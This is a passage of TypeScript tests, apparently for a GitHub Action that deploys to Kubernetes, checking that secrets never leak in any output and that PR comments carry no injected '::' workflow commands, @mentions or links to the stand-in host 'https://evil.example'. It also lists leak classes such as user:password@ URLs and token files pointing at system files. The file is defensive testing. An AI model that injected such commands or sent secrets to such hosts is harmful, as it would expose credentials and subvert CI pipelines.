        expect(body).not.toContain('@acme/admins')
        expect(body).not.toContain('https://evil.example')
        expect(body.split('\n').filter((l) => /^\s*::/.test(l))).toEqual([])
      }

      // Secrets: nowhere, in any form.
      const places: [string, string][] = [
        [
          'stdout',
          run.stdout
            .split('\n')
            .filter((l) => !l.startsWith('::add-mask::'))
            .join('\n')
        ],
        ['stderr', run.stderr],
        ['$GITHUB_OUTPUT', run.files.output],
        ['$GITHUB_STEP_SUMMARY', run.files.summary],
        ['$GITHUB_STATE', run.files.state],
        ['every object version stored', JSON.stringify(emulator().store.history.slice(-200))],
        ['GitHub requests', JSON.stringify(sent.map((r) => [r.url, r.body]))]
      ]
      const forms = (row.secrets ?? []).flatMap((s) => [s, Buffer.from(s).toString('base64')])
      const leaks = places.flatMap(([where, text]) =>
        forms.filter((s) => text.includes(s)).map((s) => `${s.slice(0, 12)}… in ${where}`)
      )
      expect(leaks).toEqual([])
    },
    150_000
  )

  test('every class of issue 11 has a row, and there are at least 30', () => {
    expect(ROWS.length).toBeGreaterThanOrEqual(30)
    const classes = ROWS.map((r) => r.source).join('\n')
    for (const c of [
      'app termination message',
      'webhook response body',
      'Prometheus error field',
      'kubeconfig exec plugin stderr',
      'rollout.knative-rollout.dev',
      "a manifest's kind",
      'YAML error snippet',
      'registry errors',
      'client-node',
      'undici',
      'Prometheus quoting Authorization',
      'basic-auth base64',
      'user:password@',
      'kubeconfig token invalid as header value',
      'token-file pointing at a system file',
      'manifest symlink out of workspace',
      'multi-line secrets',
      'git output in git mode',
      'PR comment @mentions and links',
      'kubeconfig auth-provider stderr',
      'build tool output',
      'GitHub API error bodies'
    ])
      expect(classes).toContain(c)
  })
})
